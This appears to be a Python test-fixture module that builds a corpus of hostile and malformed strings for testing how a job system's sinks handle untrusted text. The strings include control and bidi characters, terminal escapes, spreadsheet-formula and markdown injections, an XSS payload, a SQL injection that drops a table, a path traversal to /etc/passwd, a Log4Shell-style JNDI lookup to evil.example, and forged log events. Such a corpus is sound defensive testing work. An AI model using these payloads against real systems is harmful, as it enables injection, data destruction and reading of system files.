"""Texts that a hostile or careless user may give a job, its owner or its description; one corpus for every sink."""

import unicodedata

_CONTROLS = [chr(number) for number in (*range(0x20), *range(0x7F, 0xA0))]
_FORMATS = [
    chr(number) for number in (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0xAD, 0x61C, 0xFEFF)
]
_FORMULAS = ["=1+1", "+1", "-1", "@a", "\t=1", "\r=1", " =1", "\n@a", "x;=1", "\uff1d1", '=HYPERLINK("http://evil.example")']
_MARKUP = [
    "[a](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example>",
    "`code` ``` | cell | **bold** # heading",
    "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;",
    "@everyone @channel @team/admins #1 owner/repo#3",
    "| a | b |\n|---|---|\n- item",
    "out` of the span [a](https://evil.example) <b>@everyone</b> **bold** `and in",
    "out` of the cell | <script>alert(1)</script> | `and in",
]
_SCRIPTS = [
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "模型-ü",
    unicodedata.normalize("NFD", "modèle-é"),
    unicodedata.normalize("NFC", "modèle-é"),
]
_ODD = ["\ud800", "a\udfffb", "\ud83d", "\U0001f600", "\U000e0041\U000e0042", "\uffff", "\ufdd0", "\u3164", "a\ufe0f", "\u034f"]
_ESCAPES = [
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x1bPq\x1b\\",
    "\x08\x08\x08ok",
]
_FORGED = [
    'x\n{"event": "deletion.confirmed", "job_id": "forged"}\n',
    "x\u2028deletion.confirmed\u2029forged\u0085forged\x0bforged\x0cforged\x1cforged",
    "safe\u202egnp.exe\u202c \u2066left\u2069",
    '","job_id":"forged","x":"',
    "' OR 1=1; DROP TABLE events; --",
    "../../etc/passwd\0",
    "${jndi:ldap://evil.example} {{7*7}} %s %n {0} [bold]rich[/bold]",
]
LONG = ["x" * 5000, "\x1b" * 5000, "模" * 5000, "=" * 5000]
VERY_LONG = "模\x1b\u202e" * 333_333 + "x"
"""A million characters."""

TEXTS = [*_CONTROLS, *_FORMATS, *_FORMULAS, *_MARKUP, *_SCRIPTS, *_ODD, *_ESCAPES, *_FORGED, *LONG]
